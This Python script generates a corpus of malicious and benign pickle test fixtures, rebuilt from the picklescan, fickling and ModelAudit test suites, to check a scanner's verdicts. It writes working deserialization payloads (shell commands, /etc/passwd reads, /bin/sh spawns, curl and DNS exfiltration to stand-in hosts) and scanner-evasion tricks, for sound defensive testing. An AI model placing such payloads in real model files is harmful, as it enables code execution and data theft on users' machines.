#!/usr/bin/env python3
"""Write fixtures/pickle-scanners/: this project's own versions of the cases in the public test
corpora of the pickle scanners people use, and cases.json describing each one.

The cases follow the published tests of picklescan (tests/init_data_files.py and test_scanner.py),
fickling (test/test_bypasses.py, test/test_pytorch.py) and ModelAudit (tests/assets generators and
the scanner tests that use them). No file is copied from them: every pickle here is assembled from
opcodes by the helpers below (or pickled from plain data), so each is equivalent in what loading it
would call, not byte-identical. Nothing is ever unpickled.

cases.json lists, for each file: the scanner whose corpus it comes from, the case's name there, what
that scanner says per its tests ("picklescan" / "fickling" columns; "" where its tests do not cover
the case), and whether the case is benign. docs/pickles.md publishes the table with this app's
verdict; src/core/pickle/scanner-corpus.test.ts checks that table against the real decode.

Run: /usr/bin/python3 scripts/make-scanner-corpus.py
"""
import base64
import io
import json
import marshal
import os
import pickle
import pickletools
import struct
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures', 'pickle-scanners')
CASES = []
PAYLOAD = "__import__('os').system('whoami')"


# ---------------------------------------------------------------------------------------------
# A small assembler: expressions are opcode strings that push one value.

def short(text):
    b = text.encode('utf-8')
    return (b'\x8c' + bytes([len(b)]) + b) if len(b) < 256 else (b'X' + struct.pack('<I', len(b)) + b)


def lit(value):
    """Opcodes (protocol 2) that push a plain value; its BINPUTs are never read back."""
    return pickle.dumps(value, protocol=2)[2:-1]


def g(module, name, how='stack'):
    if how == 'stack':
        return short(module) + short(name) + b'\x93'
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def call(fn, *args):
    return fn + b'(' + b''.join(args) + b'tR'


def proto(n, body):
    return b'\x80' + bytes([n]) + body + b'.'


def reduce_pickle(module, name, args, protocol=4):
    """What pickle.dump writes for an object whose __reduce__ is (module.name, args)."""
    how = 'stack' if protocol >= 4 else 'global'
    if protocol >= 2:
        return proto(protocol, call(g(module, name, how), *[lit(a) for a in args]))
    # Protocols 0 and 1: text opcodes, builtins under their Python 2 name as fix_imports writes them.
    module = {'builtins': '__builtin__'}.get(module, module)
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n' + pickle.dumps(tuple(args), protocol=protocol)[:-1] + b'R.'


def add(file, data, source, case, picklescan='', fickling='', benign=False, note=''):
    with open(os.path.join(OUT, file), 'wb') as f:
        f.write(data)
    CASES.append({'file': file, 'source': source, 'case': case, 'picklescan': picklescan, 'fickling': fickling, 'benign': benign, 'note': note})


def zip_of(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zf.writestr(info, data)
    return out.getvalue()


def npy(descr, payload):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': (2,), }" % descr
    header += ' ' * ((64 - (11 + len(header)) % 64) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode('latin1') + payload


def object_array(items):
    return (b'\x80\x03' + g('numpy.core.multiarray', '_reconstruct', 'global') + g('numpy', 'ndarray', 'global') + b'K\x00\x85C\x01b\x87R'
            + b'(K\x01K\x02\x85' + g('numpy', 'dtype', 'global') + lit('O8')[:-2] + b'\x89\x88\x87R'
            + b'(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89](' + b''.join(items) + b'etb.')


# ---------------------------------------------------------------------------------------------
# picklescan: tests/init_data_files.py, expectations from tests/test_scanner.py.

def picklescan():
    src = 'picklescan'
    for v in (0, 3, 4):
        add(f'ps-benign0-v{v}.pkl', pickle.dumps(['a', 'b', 'c'], protocol=v), src, f'benign0_v{v}.pkl', 'clean', benign=True)
        ev = '__builtin__.eval' if v == 0 else 'builtins.eval'
        add(f'ps-malicious1-v{v}.pkl', reduce_pickle('builtins', 'eval', ["print('456')"], v), src, f'malicious1_v{v}.pkl', f'dangerous: {ev}')
        add(f'ps-malicious2-v{v}.pkl', reduce_pickle('posix', 'system', ['ls -la'], v), src, f'malicious2_v{v}.pkl', 'dangerous: posix.system')
    # Sour pickles (BlackHat 2011): globals(), compile(), eval(), getattr(dict, 'get'), apply().
    sour = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0"
            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
            b"c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.")
    add('ps-malicious0.pkl', sour, src, 'malicious0.pkl (sour pickles)', 'dangerous: compile, apply, getattr, eval; suspicious: globals, dict')
    add('ps-malicious3.pkl', reduce_pickle('httplib', 'HTTPSConnection', ['github.com'], 0), src, 'malicious3.pkl', 'dangerous: httplib.HTTPSConnection')
    add('ps-malicious4.pickle', reduce_pickle('requests.api', 'get', ['https://github.com']), src, 'malicious4.pickle', 'dangerous: requests.api.get')
    add('ps-malicious5.pickle', reduce_pickle('aiohttp.client', 'ClientSession', []), src, 'malicious5.pickle', 'dangerous: aiohttp.client.ClientSession')
    add('ps-malicious6.pkl', pickle.dumps(['a', 'b', 'c']) + reduce_pickle('requests.api', 'get', ['https://github.com']), src,
        'malicious6.pkl (second pickle in the file)', 'dangerous: requests.api.get')
    add('ps-malicious7.pkl', reduce_pickle('socket', 'create_connection', [('github.com', 80)]), src, 'malicious7.pkl', 'dangerous: socket.create_connection')
    add('ps-malicious8.pkl', reduce_pickle('subprocess', 'run', [['ls', '-l']]), src, 'malicious8.pkl', 'dangerous: subprocess.run')
    add('ps-malicious9.pkl', reduce_pickle('sys', 'exit', [0]), src, 'malicious9.pkl', 'dangerous: sys.exit')
    add('ps-malicious10.pkl', b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.", src, 'malicious10.pkl (INST, MARK first)', 'dangerous: __builtin__.exec')
    ctf = b'Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.'
    add('ps-malicious11.pkl', ctf, src, 'malicious11.pkl (STACK_GLOBAL from the memo, no PROTO)', 'dangerous: os.system')
    add('ps-malicious-invalid-bytes.pkl', ctf + b'\n\n\t\t', src, 'malicious-invalid-bytes.pkl (junk after STOP)', 'dangerous: os.system (scan error)')
    attr = proto(4, call(call(g('operator', 'attrgetter'), lit('system')), call(g('builtins', '__import__'), lit('os'))) + b'(' + lit('echo pwned') + b'tR')
    add('ps-malicious12.pkl', attr, src, 'malicious12.pkl (attrgetter on __import__)', 'dangerous: operator.attrgetter; suspicious: builtins.__import__')
    add('ps-malicious13a.pkl', reduce_pickle('pickle', 'loads', [b'I12345\n.'], 0), src, 'malicious13a.pkl', 'dangerous: pickle.loads')
    add('ps-malicious13b.pkl', reduce_pickle('_pickle', 'loads', [b'I12345\n.'], 4), src, 'malicious13b.pkl', 'dangerous: _pickle.loads')
    add('ps-malicious14.pkl', reduce_pickle('runpy', '_run_code', ["print('456')"]), src, 'malicious14.pkl', 'dangerous: runpy._run_code')
    bdb = call(g('bdb', 'Bdb.run'), call(g('bdb', 'Bdb')), lit('import os\nos.system("whoami")'))
    add('ps-malicious15b.pkl', proto(4, bdb), src, 'malicious15b.pkl', 'dangerous: bdb.Bdb, bdb.Bdb.run')
    add('ps-malicious16.pkl', reduce_pickle('pip', 'main', [['install', 'some_malicious_package', '--no-input']], 0), src, 'malicious16.pkl', 'dangerous: pip.main')
    add('ps-malicious17.pkl', reduce_pickle('torch._inductor.codecache', 'compile_file', ['', '', ['sh', '-c', '$(echo "pwned")']]), src, 'malicious17.pkl', 'dangerous: torch._inductor.codecache.compile_file')
    add('ps-malicious18.pkl', reduce_pickle('pydoc', 'pipepager', ['', 'echo "pwned"']), src, 'malicious18.pkl', 'dangerous: pydoc.pipepager')
    partial = proto(4, call(g('functools', 'partial'), g('torch.serialization', 'load'), lit('some_other_model.bin')) + b')R')
    add('ps-malicious19.pkl', partial, src, 'malicious19.pkl (functools.partial(torch.load))', 'dangerous: functools.partial, torch.serialization.load')
    add('ps-malicious20.pkl', reduce_pickle('venv', 'create', ['venv', False, False, True, False, '$(echo pwned)']), src, 'malicious20.pkl', 'dangerous: venv.create')
    add('ps-malicious21.pkl', reduce_pickle('timeit', 'timeit', ['', 'import os; os.system("curl https://webhook.invalid/1234")']), src, 'malicious21.pkl', 'dangerous: timeit.timeit')
    add('ps-malicious22.pkl', reduce_pickle('numpy.testing._private.utils', 'runstring', ["import os; os.system('curl https://example.invalid')", {}]), src, 'malicious22.pkl', 'dangerous: numpy.testing._private.utils.runstring')
    add('ps-malicious23.pkl', b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", src, 'malicious23.pkl (STRING args to STACK_GLOBAL)', 'dangerous: os.system')
    add('ps-malicious1.zip', zip_of([('data.pkl', reduce_pickle('builtins', 'eval', ["print('456')"]))]), src, 'malicious1.zip (data.pkl at the top)', 'dangerous: builtins.eval')
    add('ps-malicious1-wrong-ext.zip', zip_of([('data.txt', reduce_pickle('builtins', 'eval', ["print('456')"]))]), src, 'malicious1_wrong_ext.zip (data.txt)', 'dangerous: builtins.eval',
        note='a zip with no data.pkl is no torch save; pickle members named otherwise are not opened')
    ghsa = [
        ('GHSA-4r9r-ch6f-vxmx', 'torch.utils.bottleneck.__main__', 'run_cprofile', [PAYLOAD, {}]),
        ('GHSA-86cj-95qr-2p4f', 'torch._dynamo.guards', 'GuardBuilder.get', [{}, PAYLOAD]),
        ('GHSA-f4x7-rfwp-v3xw', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression', [{}, PAYLOAD, []]),
        ('GHSA-f745-w6jp-hpxx', 'torch.utils.collect_env', 'run', [PAYLOAD]),
        ('GHSA-h3qp-7fh3-f8h4', 'torch.utils.data.datapipes.utils.decoder', 'basichandlers', ['pickle', b'']),
        ('GHSA-vr7h-p6mm-wpmh', 'torch.jit.unsupported_tensor_ops', 'execWrapper', [PAYLOAD, {}, {}]),
        ('GHSA-vv6j-3g6g-2pvj', 'torch.utils._config_module', 'ConfigModule.load_config', [{}, b'']),
        ('GHSA-5qwp-399c-mjwf', 'trace', 'Trace.run', [{}, PAYLOAD]),
        ('GHSA-g344-hcph-8vgg', 'trace', 'Trace.runctx', [{}, PAYLOAD, {}, {}]),
        ('GHSA-x696-vm39-cp64', 'profile', 'Profile.run', [{}, PAYLOAD]),
        ('GHSA-6vqj-c2q5-j97w', 'profile', 'Profile.runctx', [{}, PAYLOAD, {}, {}]),
        ('GHSA-f54q-57x4-jg88', 'lib2to3.pgen2.grammar', 'Grammar.loads', [{}, b'']),
        ('GHSA-3vg9-h568-4w9m', 'idlelib.debugobj', 'ObjectTreeItem.SetText', [{}, PAYLOAD]),
        ('GHSA-6w4w-5w54-rjvr', 'idlelib.autocomplete', 'AutoComplete.get_entity', [{}, PAYLOAD]),
        ('GHSA-cj3c-v495-4xqh', 'code', 'InteractiveInterpreter.runcode', [{}, PAYLOAD]),
        ('GHSA-8r4j-24qv-fmq9', 'idlelib.calltip', 'Calltip.fetch_tip', [{}, PAYLOAD]),
        ('GHSA-xp4f-hrf8-rxw7', 'ensurepip', '_run_pip', [PAYLOAD]),
        ('GHSA-p9w7-82w4-7q8m', 'lib2to3.pgen2.pgen', 'ParserGenerator.make_label', [None, {}, '""+' + PAYLOAD]),
        ('GHSA-vvpj-8cmc-gx39', 'pkgutil', 'resolve_name', ['os:system']),
        ('GHSA-m869-42cg-3xwr', 'idlelib.run', 'Executive.runcode', [{}, PAYLOAD]),
        ('GHSA-j343-8v2j-ff7w', 'idlelib.pyshell', 'ModifiedInterpreter.runcommand', [{}, PAYLOAD]),
        ('GHSA-fqq6-7vqf-w3fg', 'doctest', 'debug_script', [PAYLOAD, True]),
        ('GHSA-9w88-8rmg-7g2p', 'cProfile', 'runctx', [PAYLOAD, None, None]),
        ('GHSA-49gj-c84q-6qm9', 'cProfile', 'run', [PAYLOAD]),
        ('GHSA-7wx9-6375-f5wh', 'profile', 'run', [PAYLOAD]),
        ('GHSA-q77w-mwjj-7mqx', 'asyncio.unix_events', '_UnixSubprocessTransport._start', [{}, 'whoami', True, None, None, None, 0]),
        ('GHSA-m273-6v24-x4m4', 'distutils.file_util', 'write_file', ['pwned_config.env', ['malicious content']]),
        ('GHSA-4675-36f9-wf6r', 'ctypes', 'CDLL', [None]),
        ('GHSA-vqmv-47xg-9wpr', 'pty', 'spawn', [['/bin/sh', '-c', 'id; exit']]),
        ('GHSA-r8g5-cgf2-4m4m', 'numpy.f2py.crackfortran', 'getlincoef', [PAYLOAD, []]),
        ('GHSA-g38g-8gr9-h9xp-uuid', 'uuid', '_get_command_stdout', ['id']),
        ('GHSA-g38g-8gr9-h9xp-osx-support', '_osx_support', '_read_output', ['id']),
        ('GHSA-g38g-8gr9-h9xp-aix-support', '_aix_support', '_read_cmd_output', ['id']),
        ('GHSA-g38g-8gr9-h9xp-imaplib', 'imaplib', 'IMAP4_stream', ['id']),
        ('GHSA-g38g-8gr9-h9xp-pyrepl-pager', '_pyrepl.pager', 'pipe_pager', ['text', 'id']),
        ('GHSA-g38g-8gr9-h9xp-test', 'test.support.script_helper', 'assert_python_ok', ['-c', PAYLOAD]),
        ('io_FileIO', '_io', 'FileIO', ['/etc/hosts', 'r']),
        ('urllib_request_urlopen', 'urllib.request', 'urlopen', ['https://example.invalid']),
        ('logging_FileHandler', 'logging', 'FileHandler', ['evil.log']),
    ]
    for name, module, fn, args in ghsa:
        add(f'ps-{name}.pkl', reduce_pickle(module, fn, args), src, f'{name}.pkl', f'dangerous: {module}.{fn}')
    locate = call(call(g('_operator', 'methodcaller'), lit('system'), lit('echo pwned')), call(g('pydoc', 'locate'), lit('os')))
    add('ps-GHSA-84r2-jw7c-4r5q.pkl', proto(4, locate), src, 'GHSA-84r2-jw7c-4r5q.pkl (methodcaller on pydoc.locate)', 'dangerous: pydoc.locate, operator.methodcaller')
    keyerror = b'\x80\x04cos\nsystem\nVecho "pwned by memo keyerror"\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.'
    add('ps-keyerror-exploit.pkl', keyerror, src, 'keyerror-exploit.pkl (payload, then a memo miss)', 'dangerous: os.system')
    confusion = b'\x80\x04cos\nsystem\nVecho "type-confusion-exploit"\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.'
    add('ps-type-confusion-exploit.pkl', confusion, src, 'type-confusion-exploit.pkl', 'dangerous: os.system; suspicious: 42.os')
    add('ps-broken-model.pkl', b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.", src,
        'broken_model.pkl (cut inside a string)', 'dangerous: builtins.exec (scan error)',
        note='the string length runs past the end: Python fails before calling exec')
    add('ps-not-a-pickle.bin', b'cmod\n\xf8\n', src, 'not_a_pickle.bin', 'clean', benign=True, note='not a pickle')
    code_args = lit((0, 0, 0, 1, 2, 67, b'd\x00S\x00', (None,), (), (), '<dynamic_code>', '<module>', 1, b''))
    add('ps-types-CodeType.pkl', proto(4, g('types', 'CodeType') + code_args + b'R'), src, 'types_CodeType.pkl', 'dangerous: types.CodeType')
    cloud = call(g('cloudpickle.cloudpickle', '_make_function'), call(g('cloudpickle.cloudpickle', '_builtin_type'), lit('CodeType')), lit({}), lit(None), lit(None), lit(None))
    add('ps-cloudpickle-codeinjection.pkl', proto(5, cloud), src, 'cloudpickle_codeinjection.pkl', 'dangerous: cloudpickle.cloudpickle._make_function, _builtin_type, ...')
    # Legacy torch file whose magic number is computed by eval, with the payload in pickle 5.
    magic = reduce_pickle('builtins', 'eval', ['0x1950A86A20F9469CFC6C'], 2)
    legacy = magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2) + reduce_pickle('posix', 'system', ['echo pwned'], 2) + pickle.dumps(None, 2)
    add('ps-pytorch-magic-bypass.pt', legacy, src, 'pytorch_magic_bypass.pt (magic number by eval)', 'dangerous: __builtin__.eval, posix.system')
    state = b'\x80\x02ccollections\nOrderedDict\n)R' + lit('w') + b'ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x02tQK\x00K\x02\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs.'
    add('ps-new-pytorch-model.bin', zip_of([('archive/data.pkl', state), ('archive/data/0', b'\x00' * 8), ('archive/version', b'3\n')]), src,
        'new_pytorch_model.bin (zip state_dict)', 'innocuous: torch.FloatStorage, collections.OrderedDict, torch._utils._rebuild_tensor_v2', benign=True)
    add('ps-object-array.npy', npy('|O', object_array([lit((1, 2)), lit((3, 4))])), src, 'object_array.npy', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
    add('ps-int-array.npy', npy('<i8', struct.pack('<2q', 1, 2)), src, 'int_array.npy', 'clean', benign=True, note='no pickle inside')
    def npz(arrays, compress):
        out = io.BytesIO()
        with zipfile.ZipFile(out, 'w', compression=zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as zf:
            for name, data in arrays:
                zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED)
        return out.getvalue()
    objects = [('a.npy', npy('|O', object_array([lit(0), lit(1), lit(2)]))), ('b.npy', npy('|O', object_array([lit(3), lit(4), lit(5)])))]
    ints = [('a.npy', npy('<i8', struct.pack('<3q', 0, 1, 2))), ('b.npy', npy('<i8', struct.pack('<3q', 3, 4, 5)))]
    add('ps-object-arrays.npz', npz(objects, False), src, 'object_arrays.npz', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
    add('ps-object-arrays-compressed.npz', npz(objects, True), src, 'object_arrays_compressed.npz', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
    add('ps-int-arrays.npz', npz(ints, False), src, 'int_arrays.npz', 'clean', benign=True, note='no pickle inside')
    add('ps-int-arrays-compressed.npz', npz(ints, True), src, 'int_arrays_compressed.npz', 'clean', benign=True, note='no pickle inside')
    dns = object_array([call(g('ssl', 'get_server_certificate'), lit(('root_x_0_0_root.dns-logger.invalid', 443)))])
    add('ps-dns-exfiltration.npy', npy('|O', dns), src, 'dns_exfiltration.npy (payload in an object array)', 'dangerous: ssl.get_server_certificate')


# ---------------------------------------------------------------------------------------------
# fickling: test/test_bypasses.py (check_safety must rate each above LIKELY_SAFE).

def fickling():
    src = 'fickling'
    unsafe = 'above LIKELY_SAFE'
    add('fk-pty-spawn-build.pkl', b'\x80\x04' + g('pty', 'spawn') + b'\x94' + short('id') + b'\x85R' + short('gottem') + b'b.', src, 'test_missing_pty_unsafe_imports_ghsa', fickling=unsafe)
    add('fk-pty-spawn-obj.pkl', b"(cpty\nspawn\nS'id'\no.", src, 'test_missing_pty_unsafe_imports_pr (OBJ, MARK first)', fickling=unsafe)
    code = marshal.dumps(compile('import os\nos.system("id")', '<string>', 'exec'))
    mt = (b'\x80\x04' + g('marshal', 'loads') + b'\x94h\x00C' + bytes([len(code)]) + code + b'\x85R\x94' + g('types', 'FunctionType') + b'\x94h\x02h\x01}\x86R\x94h\x03)R\x94' + short('gottem') + b'b.')
    add('fk-marshal-types.pkl', mt, src, 'test_missing_marshal_and_types', fickling=unsafe)
    add('fk-runpy-run-path.pkl', reduce_pickle('runpy', 'run_path', ['/tmp/malicious.py'], 5), src, 'test_missing_runpy', fickling=unsafe)
    add('fk-cprofile-run.pkl', proto(5, g('cProfile', 'run') + b'(NK\x00tR'), src, 'test_missing_cprofile', fickling=unsafe)
    add('fk-ctypes.pkl', reduce_pickle('ctypes', 'CDLL', ['libc.so.6']), src, 'test_missing_ctypes', fickling=unsafe)
    add('fk-pydoc-locate.pkl', reduce_pickle('pydoc', 'locate', ['os']), src, 'test_missing_pydoc', fickling=unsafe)
    add('fk-importlib.pkl', reduce_pickle('importlib', 'import_module', ['os']), src, 'test_missing_importlib', fickling=unsafe)
    add('fk-code-interact.pkl', reduce_pickle('code', 'InteractiveInterpreter.runsource', [{}, PAYLOAD]), src, 'test_missing_code', fickling=unsafe)
    add('fk-multiprocessing.pkl', reduce_pickle('multiprocessing.util', 'spawnv_passfds', ['/bin/sh', ['sh', '-c', 'id'], ()]), src, 'test_missing_multiprocessing', fickling=unsafe)
    add('fk-builtins-import.pkl', reduce_pickle('builtins', '__import__', ['os']), src, 'test_builtins_import_bypass', fickling=unsafe)
    add('fk-safe-builtins.pkl', proto(4, call(g('builtins', 'set'), lit([1, 2]))), src, 'test_safe_builtins_not_flagged', fickling='LIKELY_SAFE', benign=True)
    add('fk-safe-builtin-dict.pkl', proto(4, call(g('builtins', 'dict'))), src, 'test_safe_builtin_dict_not_flagged', fickling='LIKELY_SAFE', benign=True,
        note='this app grades builtins.dict as a known data type')
    add('fk-builtin-eval.pkl', reduce_pickle('builtins', 'eval', ['1+1']), src, 'test_unsafe_builtin_eval_still_flagged', fickling=unsafe)
    mc = proto(4, call(call(g('_operator', 'methodcaller'), lit('system'), lit('id')), call(g('builtins', '__import__'), lit('os'))))
    add('fk-operator-methodcaller.pkl', mc, src, 'test_operator_methodcaller', fickling=unsafe)
    add('fk-distutils-write-file.pkl', reduce_pickle('distutils.file_util', 'write_file', ['/tmp/x', ['y']]), src, 'test_distutils_write_file', fickling=unsafe)
    add('fk-io-fileio.pkl', reduce_pickle('io', 'FileIO', ['/etc/passwd']), src, 'test_io_fileio', fickling=unsafe)
    add('fk-numpy-f2py.pkl', reduce_pickle('numpy.f2py.crackfortran', 'getlincoef', [PAYLOAD, {}]), src, 'test_numpy_f2py_getlincoef', fickling=unsafe)
    add('fk-smtplib-ssrf.pkl', reduce_pickle('smtplib', 'SMTP', ['127.0.0.1']), src, 'test_network_protocol_ssrf', fickling=unsafe)
    add('fk-asyncio-subprocess.pkl', reduce_pickle('asyncio.subprocess', 'create_subprocess_exec', ['id']), src, 'test_asyncio_subprocess', fickling=unsafe)
    add('fk-obj-pop.pkl', b'\x80\x04(' + g('smtplib', 'SMTP') + short('127.0.0.1') + b'o0N.', src, 'test_obj_pop_call_invisibility (call dropped by POP)', fickling=unsafe)
    add('fk-uuid.pkl', reduce_pickle('uuid', '_get_command_stdout', ['echo', 'PROOF_OF_CONCEPT']), src, 'test_missing_uuid', fickling=unsafe)
    add('fk-aix-support.pkl', reduce_pickle('_aix_support', '_read_cmd_output', ['echo PROOF_OF_CONCEPT']), src, 'test_missing_aix_support', fickling=unsafe)
    add('fk-osx-support.pkl', reduce_pickle('_osx_support', '_find_build_tool', ['x; echo INJECTED #']), src, 'test_missing_osx_support', fickling=unsafe)
    add('fk-dotted-pathlib-os-system.pkl', proto(4, g('pathlib', 'os.system') + b')R'), src, 'test_dotted_attr_via_stdlib_module (pathlib + os.system)', fickling=unsafe)
    add('fk-ast-parse.pkl', proto(4, g('ast', 'parse')), src, 'test_ml_allowlist_not_shadowed_by_unsafe_imports_ml', fickling='above LIKELY_SAFE (ML allowlist)')
    for module in ('_interpreters', '_xxsubinterpreters'):
        add(f'fk-{module.strip("_")}.pkl', proto(4, g(module, 'create') + b')R'), src, f'test_private_stdlib_interpreters_blocklisted ({module})', fickling='LIKELY_OVERTLY_MALICIOUS or worse')
    add('fk-codecs-encode.pkl', proto(4, g('_codecs', 'encode')), src, 'test_private_stdlib_allowlist (_codecs.encode)', fickling='LIKELY_SAFE', benign=True)
    add('fk-future-annotations.pkl', proto(4, g('__future__', 'annotations')), src, 'test_private_stdlib_allowlist (__future__.annotations)', fickling='LIKELY_SAFE', benign=True,
        note='this app does not know __future__ and says so')
    add('fk-future-dotted.pkl', proto(4, g('__future__', '_ssl.RAND_bytes')), src, 'test_private_stdlib_allowlist (__future__ + _ssl.RAND_bytes)', fickling='LIKELY_UNSAFE or worse')
    hidden = b'cos\nsystem\nVecho pwned\n\x85R'
    frame = (b'\x80\x05NV' + b'a' * (8192 * 16 - 17) + b'\n0(\x95' + struct.pack('<Q', 2) + b'B\x07\x01\x00\x00\x00\x00' + (hidden + b'(').ljust(256 + 5, b'N') + b'1.')
    add('fk-frame-boundary-divergence.pkl', frame, src, 'test_frame_boundary_divergence (BINBYTES past its FRAME)', fickling=unsafe)
    add('fk-frame-straddle-global.pkl', b'\x80\x05\x95' + struct.pack('<Q', 7) + b'cos\nsystem\n.', src, 'test_frame_boundary_straddle_variants (GLOBAL attr)', fickling=unsafe)
    add('fk-frame-in-frame.pkl', b'\x80\x05\x95' + struct.pack('<Q', 30) + b'N\x95' + struct.pack('<Q', 2) + b'N.', src, 'test_frame_boundary_straddle_variants (frame inside a frame)', fickling=unsafe)
    for desc, obj, p in (('several full frames', list(range(20000)), 5), ('interleaved framed and unframed', [1, b'y' * 100000, 2], 5),
                         ('nested containers', {'a': [1, 2, {'b': (3, 4)}], 'c': [5, 6]}, 4)):
        add(f'fk-frames-ok-{desc.split()[0]}.pkl', pickle.dumps(obj, protocol=p), src, f'test_well_formed_frames_are_not_flagged ({desc}, protocol {p})', fickling='LIKELY_SAFE', benign=True)


# ---------------------------------------------------------------------------------------------
# ModelAudit: tests/assets/pickles/bypass_pocs/gen_bypass_v4.py and the stream/memo attack assets.

def modelaudit():
    src = 'modelaudit'
    for name, module, fn, args in (
        ('poc25_ctypes_cdll', 'ctypes', 'CDLL', ['/tmp/libmodel.so']),
        ('poc26_cprofile_run', 'cProfile', 'run', ['print(1+1)']),
        ('poc27_pdb_run', 'pdb', 'run', ['print(1+1)']),
        ('poc28_timeit', 'timeit', 'timeit', ['print(1+1)']),
        ('poc29_profile_run', 'profile', 'run', ['print(1+1)']),
        ('poc32_linecache', 'linecache', 'getline', ['/etc/hosts', 1]),
        ('poc33_logging_listen', 'logging.config', 'listen', [9999]),
        ('poc34_zipimport', 'zipimport', 'zipimporter', ['/tmp/modules.zip']),
    ):
        add(f'ma-{name}.pkl', reduce_pickle(module, fn, args, 2), src, f'{name}.pkl', note=f'{module}.{fn}')
    add('ma-poc30_thread.pkl', b'\x80\x02c_thread\nallocate_lock\n)\x81.', src, 'poc30_thread.pkl (NEWOBJ)', note='_thread.allocate_lock')
    add('ma-poc31_ctypes_cast.pkl', b'\x80\x02cctypes\ncast\n(I42\ncctypes\nc_void_p\n\x86R.', src, 'poc31_ctypes_cast.pkl', note='ctypes.cast')
    stream = pickle.dumps({'model': 'safe_weights'}) + reduce_pickle('builtins', 'eval', ["'HIDDEN_ATTACK_PAYLOAD'"])
    add('ma-multiple-stream-attack.pkl', stream, src, 'multiple_stream_attack.pkl (payload in the second stream)', note='builtins.eval after a clean dict')
    memo = proto(4, g('subprocess', 'call') + b'\x94h\x00' + b'0' + lit(['echo', 'memo_attack']) + b'\x85R')
    add('ma-memo-attack.pkl', memo, src, 'memo_attack.pkl (callable fetched from the memo)', note='subprocess.call')
    add('ma-nt-alias.pkl', reduce_pickle('nt', 'system', ['echo nt_alias']), src, 'nt_alias_attack.pkl', note='nt.system')
    add('ma-posix-alias.pkl', reduce_pickle('posix', 'system', ['echo posix_alias'], 2), src, 'posix_alias_attack.pkl', note='posix.system')
    b64 = base64.b64encode(reduce_pickle('posix', 'system', ['echo nested'], 2)).decode()
    add('ma-nested-pickle-base64.pkl', proto(4, call(g('pickle', 'loads'), call(g('base64', 'b64decode'), lit(b64)))), src, 'nested_pickle_base64.pkl', note='pickle.loads(base64.b64decode(...))')
    add('ma-dill-dump.pkl', b'\x80\x02cdill\ndump\n(tR.', src, 'reduce_dill_dump.pkl', note='dill.dump()')


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))
    picklescan()
    fickling()
    modelaudit()
    with open(os.path.join(OUT, 'cases.json'), 'w', encoding='utf-8') as f:
        json.dump(CASES, f, indent=1, ensure_ascii=False)
        f.write('\n')
    # Every pickle stream here parses (genops only; nothing is loaded), except the cut and junk cases.
    for c in CASES:
        data = open(os.path.join(OUT, c['file']), 'rb').read()
        if c['file'].endswith(('.zip', '.bin', '.npy', '.npz')) or 'broken' in c['file'] or 'frame' in c['file']:
            continue
        list(pickletools.genops(data))


if __name__ == '__main__':
    main()
